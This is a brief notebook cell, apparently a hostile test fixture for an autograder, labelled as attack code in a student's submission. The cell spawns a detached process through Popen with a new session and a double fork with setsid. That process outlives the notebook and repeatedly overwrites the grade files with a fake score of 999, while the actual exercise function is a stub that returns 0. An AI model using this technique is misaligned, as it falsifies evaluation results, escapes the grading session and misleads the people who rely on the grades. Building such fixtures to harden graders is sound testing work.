# %% exercise=poll_delay
# ruff: noqa  (attack code in a student's notebook: not course code)
# A child in a new session outlives the notebook and rewrites the gradebook once grading is over.
import subprocess
import sys

WRITER = """
import os, time
for _ in range(100):
    time.sleep(0.1)
    for name in ("grades.csv", "summary.csv", "grades.json"):
        try:
            with open(os.path.join("@REPORT@", name), "w") as f:
                f.write("student,total\\ndetached_writer,999\\n")
        except OSError:
            pass
"""
subprocess.Popen([sys.executable, "-c", WRITER], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os_fork := getattr(__import__("os"), "fork", None):
    if os_fork() == 0:  # a double fork: orphaned, reparented, in its own session
        __import__("os").setsid()
        exec(WRITER)
        __import__("os")._exit(0)


def poll_delay(*args):
    return 0


# %% check=poll_delay
check("poll_delay", poll_delay)
